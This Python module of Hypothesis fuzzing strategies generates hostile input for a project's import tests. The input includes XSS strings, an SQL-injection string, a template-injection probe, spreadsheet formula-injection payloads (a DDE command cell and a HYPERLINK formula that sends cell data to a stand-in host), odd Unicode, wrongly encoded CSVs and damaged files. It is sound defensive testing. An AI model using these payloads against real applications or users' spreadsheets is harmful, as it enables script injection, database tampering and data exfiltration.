"""Hypothesis strategies for bad input, shared by every app's fuzz tests.

Hostile text (script payloads, formula cells, control characters, right-to-left marks, huge
strings), CSV files in the wrong encodings, XLSX files with formula cells, and damaged files.
The importer reads `document_bytes()` in importer/tests/test_fuzz_documents.py.
"""

import io

from hypothesis import strategies as st

SCRIPT_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
    "'; DROP TABLE accounts_user; --",
]
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
    "\t=1+1",
]
ODD_TEXT = ["\u202eevil\u202c", "\x00nul", "zero\u200bwidth", "Ëext ∑ 💥", "   ", "\r\n"]
PAYLOADS = SCRIPT_PAYLOADS + FORMULA_PAYLOADS + ODD_TEXT


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    """A payload, random unicode, or both run together."""
    return st.one_of(
        st.sampled_from(PAYLOADS),
        st.text(max_size=max_size),
        st.tuples(st.text(max_size=20), st.sampled_from(PAYLOADS), st.text(max_size=20)).map("".join),
    )


def huge_text() -> st.SearchStrategy[str]:
    return st.builds(lambda c, n: c * n, st.sampled_from(["a", "é", "<", "9", ";"]), st.integers(10_000, 200_000))


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1"]


@st.composite
def csv_files(draw, header: list[str], value=None) -> bytes:
    """A CSV with the given header (sometimes broken) and hostile or plausible rows, in any encoding."""
    if value is None:
        value = st.one_of(hostile_text(60), st.integers(-5, 10**12).map(str), st.just(""))
    delimiter = draw(st.sampled_from([";", ",", "\t"]))
    columns = draw(st.one_of(st.just(header), st.lists(st.sampled_from([*header, "x", ""]), max_size=8)))
    rows = draw(st.lists(st.lists(value, min_size=0, max_size=len(columns) + 2), max_size=12))
    text = "\n".join(delimiter.join(r) for r in [columns, *rows])
    encoding = draw(st.sampled_from(ENCODINGS))
    return text.encode(encoding, errors="replace")


@st.composite
def xlsx_files(draw, header: list[str]) -> bytes:
    """An XLSX with formula cells and hostile text among plausible values."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(header)
    cell = st.one_of(hostile_text(60), st.integers(-5, 10**6), st.floats(allow_nan=True), st.none())
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    for row in draw(st.lists(st.lists(cell, max_size=len(header) + 1), max_size=8)):
        # A real workbook cannot hold control characters; openpyxl refuses them.
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def damaged_files() -> st.SearchStrategy[bytes]:
    """Random bytes, and the first bytes of real formats followed by junk."""
    heads = [b"PK\x03\x04", b"%PDF-1.7\n", b"\xd0\xcf\x11\xe0", b"\xff\xfe", b"\xef\xbb\xbf", b"\x89PNG\r\n\x1a\n"]
    return st.one_of(
        st.binary(max_size=2000),
        st.tuples(st.sampled_from(heads), st.binary(max_size=500)).map(b"".join),
    )


def document_bytes() -> st.SearchStrategy[bytes]:
    """For document readers (PDF or text): damaged files and hostile text in any encoding."""
    return st.one_of(
        damaged_files(),
        st.tuples(hostile_text(2000), st.sampled_from(ENCODINGS)).map(lambda t: t[0].encode(t[1], errors="replace")),
    )
